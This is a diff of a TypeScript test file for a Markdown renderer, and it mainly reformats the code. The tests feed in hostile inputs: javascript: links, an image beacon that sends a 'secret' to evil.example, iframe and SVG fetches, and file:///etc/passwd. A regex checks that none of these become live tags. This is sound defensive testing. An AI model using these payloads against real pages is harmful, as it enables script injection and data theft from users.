@@ -19,7 +19,8 @@ function tagsOf(markup: string): string {
 }
 
 /** Whatever could make a browser run something, or ask another host for something, by being shown. */
-const dangerous = /<(script|style|iframe|object|embed|form|img|image|link|meta|base|video|audio|source|foreignobject)[\s/>]|\son[a-z]+=|\b(src|srcset|ping|background|poster|action|formaction|xlink:href)=/i;
+const dangerous =
+  /<(script|style|iframe|object|embed|form|img|image|link|meta|base|video|audio|source|foreignobject)[\s/>]|\son[a-z]+=|\b(src|srcset|ping|background|poster|action|formaction|xlink:href)=/i;
 
 const hostile = [
   "[x](javascript:alert(1))",
@@ -37,7 +38,7 @@ const hostile = [
   "![beacon](//evil.example/p?d=secret)",
   '<svg><image href="https://evil.example/p"/></svg>',
   '<iframe src="https://evil.example"></iframe>',
-  "```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```",
+  '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
   "```html\n<script>alert(1)</script>\n```",
   "$$\\href{javascript:alert(1)}{x}$$",
   "<https://evil.example/auto?d=secret>",
@@ -52,7 +53,8 @@ describe("Markdown", () => {
   });
 
   it.each(hostile)("F-57 makes nothing of %j that runs or fetches at any point of its streaming", (text) => {
-    for (let length = 1; length <= text.length; length += 1) expect(tagsOf(render(text.slice(0, length), true))).not.toMatch(dangerous);
+    for (let length = 1; length <= text.length; length += 1)
+      expect(tagsOf(render(text.slice(0, length), true))).not.toMatch(dangerous);
   });
 
   it("F-56 shows raw HTML as the text it is", () => {
@@ -66,7 +68,14 @@ describe("Markdown", () => {
   });
 
   it("F-56 leaves a link that must not be followed as its words", () => {
-    for (const target of ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "/admin", "//evil.example/x", "irc://evil.example"]) {
+    for (const target of [
+      "javascript:alert(1)",
+      "data:text/html,x",
+      "file:///etc/passwd",
+      "/admin",
+      "//evil.example/x",
+      "irc://evil.example",
+    ]) {
       const markup = render(`[words](${target})`);
       expect(markup).toContain("words");
       expect(markup).not.toContain("<a ");
